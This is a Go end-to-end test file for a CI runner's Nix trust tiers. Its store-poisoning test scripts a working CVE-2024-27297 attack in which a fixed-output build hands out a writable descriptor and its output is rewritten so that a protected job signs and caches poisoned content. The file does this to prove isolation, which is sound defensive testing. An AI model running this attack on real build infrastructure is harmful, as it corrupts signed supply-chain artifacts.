package e2e

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hearth-ci/hearth/internal/testenv"
	"github.com/hearth-ci/hearth/nix/daemon"
	"github.com/hearth-ci/hearth/runner"
)

// hostNetwork pins a job to the host's network namespace, which the daemon's fixed-output builds
// share in these tests.
const hostNetwork = `network = "host"`

// tierOf returns an unprotected tier's daemon for test t (a store of its own), stopped when t ends.
func tierOf(t *testing.T, substitute bool) *testenv.Daemon {
	t.Helper()
	u, err := parts.NewTierDaemon(substitute)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(u.Stop)
	return u
}

// advisoriesOf returns the Nix version of d's daemon and the store-integrity advisories it predates
// the fix of: Debian 12's 2.8.0 predates them all, the third end-to-end pass's 2.26.3 fewer.
func advisoriesOf(t *testing.T, d *testenv.Daemon) (string, []daemon.Advisory) {
	t.Helper()
	info, err := daemon.Probe(context.Background(), d.NixSocket)
	if err != nil {
		t.Fatal(err)
	}
	return info.Version, daemon.Vulnerable(info.Version)
}

// predates says whether as holds the advisory id.
func predates(as []daemon.Advisory, id string) bool {
	for _, a := range as {
		if a.ID == id {
			return true
		}
	}
	return false
}

// runJobAs runs one job, on a protected ref or not, and returns its result and log.
func runJobAs(t *testing.T, cfg, src, name string, protected bool) (runner.Result, string) {
	t.Helper()
	var log syncBuffer
	opts := jobOptions(t, cfg, src, name, &log)
	opts.Protected = protected
	res := runner.New(opts).Run(context.Background())
	return res, log.String()
}

// signedCache is a file cache of the test's own with a signing key: config tables, the
// substituter and its public key.
func signedCache(t *testing.T) (tables, substituter, public string) {
	key, pub := keyPair(t, "hearth-e2e-tiers-1")
	dir := filepath.Join(t.TempDir(), "cache")
	return fmt.Sprintf("\n[cache.file]\ndir = %q\nsigning_key_file = %q\n", dir, key), "file://" + dir, pub
}

var fdpass struct {
	once sync.Once
	bin  string
	err  error
}

// fdpassPath is the attack tool of CVE-2024-27297 (internal/tools/fdpass), in the system store and
// in the stores given.
func fdpassPath(t *testing.T, tiers ...*testenv.Daemon) string {
	t.Helper()
	fdpass.once.Do(func() {
		fdpass.bin, fdpass.err = testenv.BuildStatic("./internal/tools/fdpass", filepath.Join(parts.Dir, "build", "fdpass"))
	})
	if fdpass.err != nil {
		t.Fatal(fdpass.err)
	}
	p, err := parts.Nix("nix-store", "--add", fdpass.bin)
	if err != nil {
		t.Fatal(err)
	}
	for _, u := range tiers {
		if _, err := u.Nix("nix-store", "--add", fdpass.bin); err != nil {
			t.Fatal(err)
		}
	}
	return p
}

// The attack of CVE-2024-27297 on Debian 12's Nix 2.8: an unprotected job's fixed-output build hands
// a writable descriptor of its output to the job (over an abstract socket: the job shares the
// host's network namespace here; on the bridge, a second fixed-output build would hold it instead,
// as both run in the daemon's namespace) and the job rewrites the output after the daemon registered it. The
// output's path is what `nix-store --add` of the same file gives, so a protected job that adds that
// file gets the poisoned content, builds from it, and pushes the result signed with the team's
// key. With one daemon for every job (the control) it works end to end; with trust tiers the
// poisoned path lives in the unprotected tier's store only, and the protected job and the cache
// see the real content. A daemon with the fix (Nix 2.26 in the third end-to-end pass) registers a
// copy of the output, which the descriptor does not reach: there the control shows the daemon
// itself defeating the attack, and tiers keep everything as it was.
func TestStorePoisoningAcrossTiers(t *testing.T) {
	version, found := advisoriesOf(t, parts.Daemon)
	rewrites := predates(found, "CVE-2024-27297")
	poisoned := "good\n"
	if rewrites {
		poisoned = "POISONED"
	} else {
		t.Logf("Nix %s has the fix of CVE-2024-27297: the attack reaches no store, and the control shows that", version)
	}
	for _, tiered := range []bool{false, true} {
		name := "one shared daemon (control)"
		if tiered {
			name = "trust tiers"
		}
		t.Run(name, func(t *testing.T) {
			d := daemonOf(t)
			tables, substituter, public := signedCache(t)
			var cfg string
			var u *testenv.Daemon
			if tiered {
				u = tierOf(t, false)
				var err error
				if cfg, err = d.WriteTieredConfig(u, hostNetwork, `push = "always"`, tables); err != nil {
					t.Fatal(err)
				}
			} else {
				cfg = writeCacheConfig(t, hostNetwork, `push = "always"`, tables)
			}
			var tool string
			if tiered {
				tool = fdpassPath(t, u)
			} else {
				tool = fdpassPath(t)
			}
			nonce := fmt.Sprintf("victim-input-%d", time.Now().UnixNano())
			file := filepath.Join(t.TempDir(), nonce)
			if err := os.WriteFile(file, []byte("good\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			hash, err := exec.Command("nix-hash", "--type", "sha256", "--base32", file).Output()
			if err != nil {
				t.Fatal(err)
			}
			// The path both the attacker's build and the victim's nix-store --add make.
			victimInput, err := exec.Command("nix-store", "--print-fixed-path", "--recursive", "sha256", strings.TrimSpace(string(hash)), nonce).Output()
			if err != nil {
				t.Fatal(err)
			}
			input := strings.TrimSpace(string(victimInput))
			useName := nonce + "-use"
			// The input and what was built from it are the test's own: out of the system store
			// with them afterwards (their queue roots first: a rejected entry keeps them).
			t.Cleanup(func() {
				links, _ := filepath.Glob(filepath.Join(parts.GCRoots, "queue", "*", "*"))
				for _, l := range links {
					if target, _ := os.Readlink(l); strings.Contains(target, nonce) {
						os.Remove(l)
					}
				}
				uses, _ := filepath.Glob("/nix/store/*-" + useName)
				d.Nix(append([]string{"nix-store", "--delete", input}, uses...)...)
			})
			sock := "hearth-poison-" + nonce
			r := strings.NewReplacer("NAME", nonce, "SOCK", sock, "FDPASS", tool, "HASH", strings.TrimSpace(string(hash)), "TOOLS", parts.Tools)
			attack := r.Replace(`attack:
  script:
    - |
      cat > fod.nix <<'EOF'
      derivation {
        name = "NAME"; system = "x86_64-linux";
        builder = builtins.storePath "FDPASS";
        args = [ "send" "SOCK" (builtins.placeholder "out") "good\n" ];
        outputHashMode = "recursive"; outputHashAlgo = "sha256"; outputHash = "HASH";
      }
      EOF
    - FDPASS recv SOCK POISONED /tmp/trigger > /tmp/recv.log 2>&1 &
    - for i in $(seq 200); do grep -q '@SOCK' /proc/net/unix && break; sleep 0.05; done
    - out=$(nix-build --no-out-link fod.nix)
    - touch /tmp/trigger; wait; cat /tmp/recv.log
    - echo "attacker sees $out as $(cat $out)"
`)
			res, log := runJobAs(t, cfg, attack, "attack", false)
			if res.State != "success" {
				t.Fatalf("the attacking job failed: %s\n%s", res, log)
			}
			// The attack itself works in both setups: what differs is who it reaches. (The
			// descriptor is written either way; on a fixed daemon, not what it registered.)
			if !strings.Contains(log, "fdpass: rewrote the build's output") || !strings.Contains(log, "attacker sees "+input+" as "+strings.TrimSpace(poisoned)) {
				t.Fatalf("the attack on Nix %s did not leave %s as %q:\n%s", version, input, poisoned, log)
			}

			victim := r.Replace(`victim:
  script:
    - printf 'good\n' > NAME
    - p=$(nix-store --add NAME)
    - echo "victim input $p is $(cat $p)"
    - |
      cat > use.nix <<'EOF'
      { p }: let tools = builtins.storePath "TOOLS"; in derivation {
        name = "NAME-use"; system = "x86_64-linux"; builder = "${tools}/bin/bash"; PATH = "${tools}/bin";
        args = [ "-c" "cat ${builtins.storePath p} > $out" ];
      }
      EOF
    - nix-build --no-out-link --argstr p "$p" use.nix
`)
			res, log = runJobAs(t, cfg, victim, "victim", true)
			if res.State != "success" {
				t.Fatalf("the protected job failed: %s\n%s", res, log)
			}
			use := regexp.MustCompile(`(?m)^/nix/store/[0-9a-z]{32}-` + regexp.QuoteMeta(useName) + `$`).FindString(log)
			if use == "" || !strings.Contains(log, "pushed "+use+" (") {
				t.Fatalf("the protected job did not build and push %s:\n%s", useName, log)
			}
			root, err := d.Substitute(substituter, public, use)
			if err != nil {
				t.Fatal(err)
			}
			cached, err := os.ReadFile(root + use)
			if err != nil {
				t.Fatal(err)
			}
			want := "good\n"
			if !tiered {
				want = poisoned
			}
			if !strings.Contains(log, "victim input "+input+" is "+strings.TrimSpace(want)) {
				t.Fatalf("the protected job did not see %q in %s:\n%s", want, input, log)
			}
			if string(cached) != want {
				t.Fatalf("the cache holds %s signed with the team key as %q, want %q", use, cached, want)
			}
			if !tiered {
				return
			}
			// The poisoned copy is the unprotected tier's alone.
			if b, err := os.ReadFile(u.StoreRoot + input); err != nil || string(b) != poisoned {
				t.Fatalf("the unprotected tier's %s holds %q (%v), want %q", input, b, err, poisoned)
			}
			if b, err := os.ReadFile(input); err != nil || string(b) != "good\n" {
				t.Fatalf("the system store's %s holds %q (%v)", input, b, err)
			}
			if _, err := os.Stat(strings.TrimPrefix(substituter, "file://") + "/" + strings.SplitN(filepath.Base(input), "-", 2)[0] + ".narinfo"); err == nil {
				t.Fatalf("the attacker's build %s reached the cache", input)
			}
		})
	}
}

// With tiers, an unprotected job builds in its tier's store: nothing of it is in the system store
// or reaches the cache, even after the next protected job pushes (push = "protected" means what it
// says). The job log says which tier a job runs in, and warns once per daemon that its Nix
// predates a store-integrity fix. The unprotected tier's store gets the environment once, rooted:
// a job's nix-store --gc collects what jobs built but not the environment, and without the root
// (the control) the next job has to copy it again.
func TestTiersKeepBuildsApart(t *testing.T) {
	d := daemonOf(t)
	u := tierOf(t, true)
	tables, substituter, _ := signedCache(t)
	// An environment of the test's own: a collection spares a path any process on the host has
	// in its environment (the agents of other jobs have the shared one on their PATH).
	env := privateEnvironment(t)
	cfg, err := d.WriteTieredConfig(u, `default_environment = "private"`, `push = "protected"`, tables+fmt.Sprintf("\n[environments.private]\nstore_path = %q\n", env))
	if err != nil {
		t.Fatal(err)
	}
	out, err := runHearth(cfg, "config", "check")
	if err != nil || !strings.Contains(out, "two Nix tiers: protected jobs build with the nix-daemon at "+d.NixSocket) {
		t.Fatalf("config check does not say tiers are in force: %v\n%s", err, out)
	}
	version, found := advisoriesOf(t, u)
	if len(found) == 0 {
		t.Fatalf("Nix %s predates no advisory's fix: this test needs a daemon that does", version)
	}
	warned := "runs Nix " + version + ", which predates the fix of " + daemon.Describe(found)
	nonce := fmt.Sprintf("tiers-%d", time.Now().UnixNano())
	res, log := runJobAs(t, cfg, buildJob(nonce+"-u", 1, ""), "build", false)
	if res.State != "success" {
		t.Fatalf("%s\n%s", res, log)
	}
	for _, want := range []string{"Nix: the unprotected tier", "Copying environment private into the unprotected tier's store", "WARNING: the unprotected tier's nix-daemon (" + u.NixSocket + ") " + warned, "what this job built stays in the unprotected tier's store"} {
		if !strings.Contains(log, want) {
			t.Fatalf("the unprotected job's log lacks %q:\n%s", want, log)
		}
	}
	built := builtPaths(log, nonce+"-u")
	if len(built) != 1 {
		t.Fatalf("built %v", built)
	}
	unprotected := built[0]
	if _, err := os.Stat(u.StoreRoot + unprotected); err != nil {
		t.Fatalf("%s is not in the unprotected tier's store: %v", unprotected, err)
	}
	if _, err := os.Stat(unprotected); err == nil {
		t.Fatalf("%s, built by an unprotected job, is in the system store", unprotected)
	}

	res, log = runJobAs(t, cfg, buildJob(nonce+"-p", 1, ""), "build", true)
	if res.State != "success" {
		t.Fatalf("%s\n%s", res, log)
	}
	protected := builtPaths(log, nonce+"-p")
	if len(protected) != 1 || !strings.Contains(log, "Nix: the protected tier") || !strings.Contains(log, "WARNING: the protected tier's nix-daemon") || !strings.Contains(log, "pushed "+protected[0]) {
		t.Fatalf("the protected job did not build in its tier and push %v:\n%s", protected, log)
	}
	cacheDir := strings.TrimPrefix(substituter, "file://")
	narinfo := func(p string) string {
		return filepath.Join(cacheDir, strings.SplitN(filepath.Base(p), "-", 2)[0]+".narinfo")
	}
	if _, err := os.Stat(narinfo(protected[0])); err != nil {
		t.Fatalf("the protected job's %s is not in the cache: %v", protected[0], err)
	}
	if _, err := os.Stat(narinfo(unprotected)); err == nil {
		t.Fatalf("the unprotected job's %s reached the cache", unprotected)
	}

	// A job collects its tier's garbage: what the first job built goes, the environment stays.
	gc := "gc:\n  script:\n    - nix-store --gc\n"
	res, log = runJobAs(t, cfg, gc, "gc", false)
	if res.State != "success" || strings.Contains(log, "WARNING: the unprotected tier's nix-daemon") {
		t.Fatalf("the collecting job (warned again: %v): %s\n%s", strings.Contains(log, warned), res, log)
	}
	if _, err := os.Stat(u.StoreRoot + unprotected); err == nil {
		t.Fatalf("nix-store --gc in the job did not collect %s: the test proves nothing", unprotected)
	}
	res, log = runJobAs(t, cfg, "after:\n  script:\n    - echo environment-still-here\n", "after", false)
	if res.State != "success" || !strings.Contains(log, "environment-still-here") || strings.Contains(log, "Copying environment") {
		t.Fatalf("after a job's nix-store --gc, the next job: %s\n%s", res, log)
	}

	// The control: without its root, a collection takes the environment.
	roots, _ := filepath.Glob(filepath.Join(u.StoreRoot, "nix/var/nix/gcroots/hearth/environments/*"))
	if len(roots) != 1 {
		t.Fatalf("the unprotected tier's environment roots: %v", roots)
	}
	if err := os.Remove(roots[0]); err != nil {
		t.Fatal(err)
	}
	if _, err := u.Nix("nix-store", "--gc"); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(u.StoreRoot + env); err == nil {
		why, _ := u.Nix("nix-store", "--query", "--roots", env)
		t.Fatalf("unrooted, the environment survived a collection: the control proves nothing (its roots: %s)", why)
	}
	res, log = runJobAs(t, cfg, "again:\n  script:\n    - echo copied-again\n", "again", false)
	if res.State != "success" || !strings.Contains(log, "Copying environment private into the unprotected tier's store") {
		t.Fatalf("the job after the control: %s\n%s", res, log)
	}
}

// What hearth needs in the system store is rooted there: the environment's closure and the paths
// queued for the cache. A job's nix-store --delete of them is refused, a collection would spare
// them (the daemon's own --print-dead says so), and the queued path is pushed afterwards.
func TestRootsSurviveAJobsCollection(t *testing.T) {
	d := daemonOf(t)
	u := tierOf(t, false)
	tables, substituter, public := signedCache(t)
	// An environment of the test's own: the agents of other jobs keep the shared one alive.
	env := privateEnvironment(t)
	envTable := fmt.Sprintf("\n[environments.private]\nstore_path = %q\n", env)
	tables += envTable
	hold, err := d.WriteTieredConfig(u, `default_environment = "private"`, `push = "never"`, tables)
	if err != nil {
		t.Fatal(err)
	}
	nonce := fmt.Sprintf("roots-%d", time.Now().UnixNano())
	res, log := runJobAs(t, hold, buildJob(nonce, 1, ""), "build", true)
	built := builtPaths(log, nonce)
	if res.State != "success" || len(built) != 1 {
		t.Fatalf("%s\n%s", res, log)
	}
	queuedPath := built[0]
	if !queued(t, queuedPath) {
		t.Fatalf("%s is not queued", queuedPath)
	}
	collect := fmt.Sprintf(`collect:
  script:
    - printf 'dead\n' > %[1]s-dead
    - dead=$(nix-store --add %[1]s-dead)
    - nix-store --delete %[2]s %[3]s 2>&1 || echo delete-refused
    - nix-store --gc --print-dead > /tmp/dead 2>/dev/null
    - grep -q "$dead" /tmp/dead && echo control-is-dead
    - grep -E '%[2]s|%[3]s|%[4]s' /tmp/dead || echo none-of-ours-dead
`, nonce, queuedPath, env, parts.Tools)
	res, log = runJobAs(t, hold, collect, "collect", true)
	if res.State != "success" {
		t.Fatalf("%s\n%s", res, log)
	}
	for _, want := range []string{"delete-refused", "control-is-dead", "none-of-ours-dead"} {
		if !strings.Contains(log, want) {
			t.Fatalf("the collecting job's log lacks %q:\n%s", want, log)
		}
	}
	if _, err := os.Stat(queuedPath); err != nil {
		t.Fatalf("the queued %s is gone: %v", queuedPath, err)
	}

	push, err := d.WriteTieredConfig(u, `default_environment = "private"`, `push = "always"`, tables)
	if err != nil {
		t.Fatal(err)
	}
	res, log = runJobAs(t, push, "push:\n  script:\n    - true\n", "push", true)
	if res.State != "success" || !strings.Contains(log, "pushed "+queuedPath) {
		t.Fatalf("the queued path was not pushed: %s\n%s", res, log)
	}
	if _, err := d.Substitute(substituter, public, queuedPath); err != nil {
		t.Fatal(err)
	}
	// Pushed, it is the store's to collect again.
	links, _ := filepath.Glob(filepath.Join(parts.GCRoots, "queue", "*", filepath.Base(queuedPath)))
	if len(links) != 0 {
		t.Fatalf("%s stays rooted after its push: %v", queuedPath, links)
	}
	// The control: unrooted now, a collection would take it.
	dead, err := d.Nix("nix-store", "--gc", "--print-dead")
	if err != nil || !strings.Contains(dead, queuedPath) {
		t.Fatalf("once pushed and unrooted, %s is not dead to the collector (%v): the roots proved nothing", queuedPath, err)
	}
}

// privateEnvironment is a store-path environment of the test's own: a new path whose bin/ is the
// test environment's.
func privateEnvironment(t *testing.T) string {
	t.Helper()
	env, err := parts.Nix("nix-build", "--no-out-link", "-E", fmt.Sprintf(
		`let tools = builtins.storePath %q; env = builtins.storePath %q; in derivation { name = "hearth-env-%d"; system = builtins.currentSystem; builder = "${tools}/bin/bash"; PATH = "${tools}/bin"; args = ["-c" "mkdir $out && ln -s ${env}/bin $out/bin"]; }`,
		parts.Tools, parts.Environment, time.Now().UnixNano()))
	if err != nil {
		t.Fatal(err)
	}
	return env
}

// The unprotected tier's store fills up: its daemon (min-free, max-free) collects what jobs built
// while they build, never the environment hearth rooted, and the next job starts.
func TestFullTierStoreIsCollectedAroundTheRoots(t *testing.T) {
	d := daemonOf(t)
	u, err := parts.NewSmallTierDaemon("320m", "min-free = 120000000\nmax-free = 200000000\nmin-free-check-interval = 1\n")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(u.Stop)
	env := privateEnvironment(t)
	cfg, err := d.WriteTieredConfig(u, `default_environment = "private"`, "", fmt.Sprintf("\n[environments.private]\nstore_path = %q\n", env))
	if err != nil {
		t.Fatal(err)
	}
	nonce := fmt.Sprint(time.Now().UnixNano())
	fill := "fill:\n  script:\n"
	for i := 0; i < 4; i++ {
		fill += fmt.Sprintf("    - |\n      cat > f%[1]d.nix <<'EOF'\n      let tools = builtins.storePath %[2]q; in derivation { name = \"fill-%[3]s-%[1]d\"; system = \"x86_64-linux\"; builder = \"${tools}/bin/bash\"; PATH = \"${tools}/bin\"; args = [ \"-c\" \"head -c 60000000 /dev/urandom > $out\" ]; }\n      EOF\n    - nix-build --no-out-link f%[1]d.nix\n", i, parts.Tools, nonce)
	}
	res, log := runJobAs(t, cfg, fill, "fill", false)
	if res.State != "success" {
		t.Fatalf("the filling job: %s\n%s", res, log)
	}
	outs := regexp.MustCompile(`(?m)^/nix/store/\S+-fill-`+nonce+`-\d$`).FindAllString(log, -1)
	if len(outs) != 4 {
		t.Fatalf("built %v, want 4 paths:\n%s", outs, log)
	}
	collected := 0
	for _, p := range outs {
		if _, err := os.Stat(u.StoreRoot + p); err != nil {
			collected++
		}
	}
	if collected == 0 {
		t.Fatalf("the daemon collected none of the 240 MB the job built on a 320 MB store: the test proves nothing\n%s", log)
	}
	if _, err := os.Stat(u.StoreRoot + env); err != nil {
		t.Fatalf("the collection took the rooted environment: %v", err)
	}
	res, log = runJobAs(t, cfg, "next:\n  script:\n    - echo next-job-starts\n", "next", false)
	if res.State != "success" || !strings.Contains(log, "\nnext-job-starts") || strings.Contains(log, "Copying environment") {
		t.Fatalf("the next job: %s\n%s", res, log)
	}
	t.Logf("the daemon collected %d of the 4 paths the job built", collected)
}
